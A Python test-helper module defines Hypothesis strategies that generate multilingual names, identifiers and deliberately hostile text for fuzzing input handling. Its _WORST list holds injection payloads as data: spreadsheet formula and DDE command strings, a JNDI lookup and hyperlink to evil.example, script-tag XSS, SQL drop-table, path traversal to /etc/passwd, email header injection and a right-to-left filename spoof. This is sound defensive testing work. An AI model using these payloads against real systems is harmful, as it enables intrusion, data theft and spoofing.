"""Strategies for text: what people write, and what attackers, imports and copy-and-paste send."""

from __future__ import annotations

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

__all__ = ["hostile_text", "identifiers", "lines", "proses"]

_LETTERS = "abcxyzABCÄßéñøŁжЯאבשעربحया东京한"
_INSIDE = _LETTERS + "0123456789 .,-'&()/+@#:’–🧾\u200f"
"""What names are really made of: several scripts, signs of punctuation, an emoji, the mark RLM."""


def lines(*, limit: int = 30, hostile: bool = False) -> SearchStrategy[str]:
    """One line of text that shows something, as names have it.

    Args:
        limit: how many characters it may have; longer ones say no more, and are slower.
        hostile: draw :func:`hostile_text` as well, most of which is refused.
    """
    tame = st.builds(str.__add__, st.sampled_from(_LETTERS), st.text(alphabet=_INSIDE, max_size=max(limit - 1, 0)))
    return st.one_of(tame, hostile_text()) if hostile else tame


def proses(*, limit: int = 60, hostile: bool = False) -> SearchStrategy[str]:
    """Text of several lines, which may be empty.

    Args:
        limit: how many characters it may have.
        hostile: draw :func:`hostile_text` as well.
    """
    tame = st.text(alphabet=_INSIDE + "\n\t", max_size=limit)
    return st.one_of(tame, hostile_text()) if hostile else tame


def identifiers(prefix: str = "D") -> SearchStrategy[str]:
    """Ids as hosts give them: ``D-1``, a UUID, a number as text, and what only just is one.

    Args:
        prefix: what the short ones begin with.
    """
    numbered = st.integers(1, 999).map(lambda number: f"{prefix}-{number}")
    odd = st.sampled_from(["007", "ACME/2026:1", "é", "שלום", "x" * 200])
    return st.one_of(numbered, st.uuids(version=4).map(str), odd)


_BAD_CHARACTERS = "\x00\x01\x07\x08\x0b\x1b\x7f\x85\u2028\u2029\u202a\u202e\u2066\u2069\ud800\udfff\r\n"
_INVISIBLE = " \t\u00a0\u200b\u200d\ufeff\u2060\u3164\u2800"
_WORST = (
    "",
    " ",
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "'; drop table deals; --",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%s%s%n",
    "../../etc/passwd",
    "BEGIN:VEVENT\r\nSUMMARY:forged",
    "annoa@acme.example\r\nBcc: everybody@acme.example",
    "gpj.\u202eexe",
    "раураl",  # Cyrillic letters that look Latin
    "e\u0301" * 20,
    "Z" + "\u0300" * 200,
    "👩‍👩‍👧‍👦" * 5,
    "\U0010ffff",
    "İ",
    "ﷺ",
    "NULL",
    "nan",
    "1e400",
    "true",
    "2026-02-30",
    "x" * 201,
    "x" * 10_001,
)
"""What has broken other systems: formulas, markup, queries, templates, paths, headers, look-alikes, size."""


def hostile_text() -> SearchStrategy[str]:
    """Text that must be refused or survive: never half of it, never altered, never run.

    Control characters, NUL, direction overrides, halves of surrogate pairs, line breaks, invisible text, mixed
    scripts, formulas, markup, and far too much of it.
    """
    broken = st.builds(
        lambda before, bad, after: before + bad + after,
        st.text(alphabet=_LETTERS, max_size=5),
        st.sampled_from(_BAD_CHARACTERS),
        st.text(alphabet=_LETTERS, max_size=5),
    )
    invisible = st.text(alphabet=_INVISIBLE, min_size=1, max_size=5)
    anything = st.text(st.characters(), max_size=20)
    return st.one_of(st.sampled_from(_WORST), broken, invisible, anything)
